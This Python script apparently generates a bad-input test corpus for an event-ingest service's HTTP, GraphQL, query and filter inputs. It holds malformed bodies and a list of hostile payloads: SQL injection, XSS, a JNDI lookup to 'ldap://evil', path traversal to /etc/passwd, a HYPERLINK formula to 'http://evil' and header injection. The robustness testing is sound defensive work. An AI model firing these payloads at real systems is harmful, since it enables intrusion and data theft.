#!/usr/bin/env python3
"""Writes cases.jsonl: the bad-input corpus of issue #7 item 8 (run once; the output is committed).

Each line is one case: {"name", "kind", ...}
  kind "body":   "body" (text) or "bodyBase64" (raw bytes) POSTed as the whole request to /api/ingest and /graphql
  kind "event":  "event" (any JSON value) as the middle event of a batch of three, through both ingest doors
  kind "query":  "query", a search query string, to the GraphQL events query and to /api/export
  kind "filter": "filter", fields merged into the events filter (times, groups, levels)
"""
import base64, json, pathlib

cases = []
def add(kind, name, **kw):
    cases.append({"name": name, "kind": kind, **kw})

B = '{"key":"shop-key-1","project":"shop","environment":"prod","batchId":"bad","events":[]}'
# ---- malformed or wrong whole bodies
for name, body in [
    ("empty", ""), ("whitespace", "   \n\t "), ("null", "null"), ("true", "true"), ("number", "42"), ("string", '"batch"'),
    ("array", "[]"), ("array of batch", "[" + B + "]"), ("unclosed object", '{"key":"shop-key-1"'), ("unclosed string", '{"key":"shop'),
    ("trailing comma", '{"key":"shop-key-1",}'), ("single quotes", "{'key':'shop-key-1'}"), ("unquoted keys", "{key:1}"),
    ("comment", '/* c */ {"key":"shop-key-1"}'), ("NaN", '{"key":NaN}'), ("Infinity", '{"events":[Infinity]}'),
    ("two objects", B + B), ("garbage after", B + "xyz"), ("bare words", "hello world"), ("xml", "<batch><key>k</key></batch>"),
    ("form body", "key=shop-key-1&project=shop"), ("graphql document", "mutation { ingest(batch: {}) { accepted } }"),
    ("events is object", '{"key":"shop-key-1","project":"shop","environment":"prod","batchId":"b","events":{}}'),
    ("events is string", '{"key":"shop-key-1","project":"shop","environment":"prod","batchId":"b","events":"x"}'),
    ("events is number", '{"key":"shop-key-1","project":"shop","environment":"prod","batchId":"b","events":1}'),
    ("key is object", '{"key":{},"project":"shop","environment":"prod","batchId":"b","events":[]}'),
    ("project is array", '{"key":"shop-key-1","project":["shop"],"environment":"prod","batchId":"b","events":[]}'),
    ("missing key", '{"project":"shop","environment":"prod","batchId":"b","events":[]}'),
    ("missing project", '{"key":"shop-key-1","environment":"prod","batchId":"b","events":[]}'),
    ("missing batchId", '{"key":"shop-key-1","project":"shop","environment":"prod","events":[]}'),
    ("unknown project", '{"key":"shop-key-1","project":"nope","environment":"prod","batchId":"b","events":[]}'),
    ("unknown environment", '{"key":"shop-key-1","project":"shop","environment":"nope","batchId":"b","events":[]}'),
    ("wrong key", '{"key":"wrong","project":"shop","environment":"prod","batchId":"b","events":[]}'),
    ("batchId 10k chars", '{"key":"shop-key-1","project":"shop","environment":"prod","batchId":"' + "b" * 10000 + '","events":[]}'),
    ("context is string", '{"key":"shop-key-1","project":"shop","environment":"prod","batchId":"b","context":"x","events":[]}'),
    ("deep arrays 5000", "[" * 5000 + "]" * 5000), ("deep objects 3000", '{"a":' * 3000 + "1" + "}" * 3000),
    ("deep extra 3000", '{"key":"shop-key-1","project":"shop","environment":"prod","batchId":"b","events":[{"message":"m","level":"info","timestamp":"2026-01-01T00:00:00Z","extra":' + '{"a":' * 3000 + "1" + "}" * 3000 + "}]}"),
    ("number 1e400 key", '{"key":1e400}'), ("huge integer batchId", '{"batchId":' + "9" * 5000 + "}"),
    ("NUL bytes", '{"key":"shop-key-1\u0000","project":"shop\u0000"}'), ("raw control chars", '{"key":"a\u0001\u0002\u001f"}'),
    ("unescaped newline in string", '{"key":"a\nb"}'), ("lone surrogate escape", '{"key":"\\ud800","project":"shop"}'),
    ("bad escape", '{"key":"\\x41"}'), ("BOM then bad json", "\ufeff" + B[:-1]),
    ("1001 events", '{"key":"shop-key-1","project":"shop","environment":"prod","batchId":"big","events":[' + ",".join(['{"message":"m","level":"info","timestamp":"2026-01-01T00:00:00Z"}'] * 1001) + "]}"),
]:
    add("body", name, body=body)
for name, raw in [
    ("invalid UTF-8 in string", b'{"key":"shop-key-1","project":"\xff\xfe"}'),
    ("invalid UTF-8 continuation", b'{"key":"\xc3\x28"}'), ("overlong UTF-8", b'{"key":"\xc0\xaf"}'),
    ("UTF-16 body", '{"key":"shop-key-1"}'.encode("utf-16")), ("random bytes", bytes(range(256))),
    ("gzip magic without header", b"\x1f\x8b\x08\x00garbage"), ("truncated UTF-8", b'{"key":"\xe2\x82'),
]:
    add("body", name, bodyBase64=base64.b64encode(raw).decode())

# ---- one bad event among good ones
INJECTIONS = [
    "' OR '1'='1", "'; DROP TABLE events; --", '" OR ""="', "1; SELECT * FROM sqlite_master", "%' AND 1=0 UNION SELECT sql FROM sqlite_master --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil/a}",
    "../../../../etc/passwd", "=HYPERLINK(\"http://evil\")", "\u202etxt.exe", "\u0000NUL\u0000", "a\r\nSet-Cookie: x=1",
    "*:*", "message:* OR 1=1", "\"unbalanced", "\\", "%00%0d%0a",
]
FIELDS = ["message", "type", "code", "stackTrace", "url", "location", "level", "timestamp", "requestId"]
for inj_i, inj in enumerate(INJECTIONS):
    for f in FIELDS:
        ev = {"message": "m", "level": "info", "timestamp": "$NOW"}
        ev[f] = inj
        add("event", f"injection {inj_i} in {f}", event=ev)
    add("event", f"injection {inj_i} in user", event={"message": "m", "level": "info", "timestamp": "$NOW", "user": {"id": inj, "email": inj, "name": inj}})
    add("event", f"injection {inj_i} in extra", event={"message": "m", "level": "info", "timestamp": "$NOW", "extra": {inj: inj}})
    add("event", f"injection {inj_i} in componentTrace", event={"message": "m", "level": "info", "timestamp": "$NOW", "componentTrace": [inj]})
for name, ev in [
    ("event null", None), ("event string", "x"), ("event number", 5), ("event array", [1]), ("event empty", {}),
    ("message object", {"message": {}, "level": "info", "timestamp": "$NOW"}), ("message array", {"message": ["m"], "level": "info", "timestamp": "$NOW"}),
    ("message empty", {"message": "", "level": "info", "timestamp": "$NOW"}), ("message blank", {"message": "   ", "level": "info", "timestamp": "$NOW"}),
    ("message 70k", {"message": "x" * 70000, "level": "info", "timestamp": "$NOW"}), ("stack 140k", {"message": "m", "stackTrace": "y" * 140000, "level": "info", "timestamp": "$NOW"}),
    ("extra 300k", {"message": "m", "level": "info", "timestamp": "$NOW", "extra": {"big": "z" * 300000}}),
    ("extra is array", {"message": "m", "level": "info", "timestamp": "$NOW", "extra": [1, 2]}), ("extra is string", {"message": "m", "level": "info", "timestamp": "$NOW", "extra": "x"}),
    ("extra deep 200", {"message": "m", "level": "info", "timestamp": "$NOW", "extra": json.loads('{"a":' * 200 + "1" + "}" * 200)}),
    ("extra huge number", {"message": "m", "level": "info", "timestamp": "$NOW", "extra": {"n": 10 ** 400}}),
    ("level unknown", {"message": "m", "level": "loud", "timestamp": "$NOW"}), ("level number 99", {"message": "m", "level": 99, "timestamp": "$NOW"}),
    ("level object", {"message": "m", "level": {}, "timestamp": "$NOW"}), ("level missing", {"message": "m", "timestamp": "$NOW"}),
    ("timestamp missing", {"message": "m", "level": "info"}), ("timestamp year 0", {"message": "m", "level": "info", "timestamp": "0000-01-01T00:00:00Z"}),
    ("timestamp year 10000", {"message": "m", "level": "info", "timestamp": "+10000-01-01T00:00:00Z"}), ("timestamp 10000 plain", {"message": "m", "level": "info", "timestamp": "10000-01-01T00:00:00Z"}),
    ("timestamp no zone", {"message": "m", "level": "info", "timestamp": "2026-01-01T00:00:00"}), ("timestamp garbage", {"message": "m", "level": "info", "timestamp": "yesterday"}),
    ("timestamp epoch huge", {"message": "m", "level": "info", "timestamp": "99999999999999999999999"}), ("timestamp negative", {"message": "m", "level": "info", "timestamp": "-1"}),
    ("timestamp number", {"message": "m", "level": "info", "timestamp": 1.5e300}), ("timestamp Feb 30", {"message": "m", "level": "info", "timestamp": "2026-02-30T00:00:00Z"}),
    ("timestamp far future", {"message": "m", "level": "info", "timestamp": "2999-01-01T00:00:00Z"}), ("timestamp 1970", {"message": "m", "level": "info", "timestamp": "1970-01-01T00:00:00Z"}),
    ("http status huge", {"message": "m", "level": "info", "timestamp": "$NOW", "http": {"method": "GET", "status": 99999999999999999999}}),
    ("http status 1e308", {"message": "m", "level": "info", "timestamp": "$NOW", "http": {"status": 1e308}}),
    ("http status string", {"message": "m", "level": "info", "timestamp": "$NOW", "http": {"status": "five hundred"}}),
    ("http status negative", {"message": "m", "level": "info", "timestamp": "$NOW", "http": {"status": -1}}),
    ("http is string", {"message": "m", "level": "info", "timestamp": "$NOW", "http": "GET"}),
    ("componentTrace string", {"message": "m", "level": "info", "timestamp": "$NOW", "componentTrace": "App"}),
    ("componentTrace 500", {"message": "m", "level": "info", "timestamp": "$NOW", "componentTrace": ["C"] * 500}),
    ("componentTrace nulls", {"message": "m", "level": "info", "timestamp": "$NOW", "componentTrace": [None, None]}),
    ("user is string", {"message": "m", "level": "info", "timestamp": "$NOW", "user": "bob"}),
    ("url 20k", {"message": "m", "level": "info", "timestamp": "$NOW", "url": "https://x/" + "a" * 20000}),
    ("control chars message", {"message": "".join(chr(c) for c in range(32)), "level": "info", "timestamp": "$NOW"}),
    ("NUL message", {"message": "a\u0000b", "level": "info", "timestamp": "$NOW"}),
    ("emoji and RTL", {"message": "💥 \u202e gnp.exe 결제", "level": "info", "timestamp": "$NOW"}),
    ("unknown fields", {"message": "m", "level": "info", "timestamp": "$NOW", "evil": True, "__proto__": {"x": 1}}),
]:
    add("event", name, event=ev)

# ---- the query language and the filter
for q in ["(", ")", "((((((((((", ")" * 50, "(" * 500 + "a" + ")" * 500, "\"", "\"unclosed phrase", "level:", "level:loud", ":",
          "http.status:>=abc", "http.status:>" + "9" * 400, "timestamp:>0000-01-01", "timestamp:>10000-01-01", "timestamp:>yesterday",
          "unknown.field:1", "extra.:1", "extra." + "a." * 500 + "b:1", "!", "-", "!!!!a", "OR", "AND", "a OR", "OR OR OR", "has:", "has:nope",
          "type:[", "type:[a,", "type:[]", "*", "**", "*" * 1000, "a" * 20000, "url:*" * 200, "' OR 1=1 --", "\"; DROP TABLE events; --",
          "message:%", "message:_", "\\", "\u0000", "결제" * 1000, "<script>alert(1)</script>", "${jndi:ldap://x}", "level:>=", "a:b:c:d",
          "(a OR (b AND (c OR (d", "http.method:" + "x" * 10000]:
    add("query", "query " + (q[:40] if len(q) <= 40 else q[:30] + f"...({len(q)})"), query=q)
for name, f in [
    ("from year 0", {"from": "0000-01-01T00:00:00Z"}), ("to year 10000", {"to": "+10000-01-01T00:00:00Z"}),
    ("from after to", {"from": "2026-12-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"}), ("from garbage", {"from": "soon"}),
    ("groups empty", {"groups": []}), ("group injection", {"groups": ["/jinju/shop/prod' OR 1=1 --"]}), ("group traversal", {"groups": ["../../etc"]}),
    ("levels unknown", {"levels": ["LOUD"]}), ("levels wrong type", {"levels": "ERROR"}), ("groups 1000", {"groups": ["/jinju/shop/prod"] * 1000}),
]:
    add("filter", name, filter=f)

out = pathlib.Path(__file__).with_name("cases.jsonl")
with out.open("w", encoding="utf-8") as fh:
    for c in cases:
        fh.write(json.dumps(c, ensure_ascii=True) + "\n")
print(len(cases), "cases ->", out)
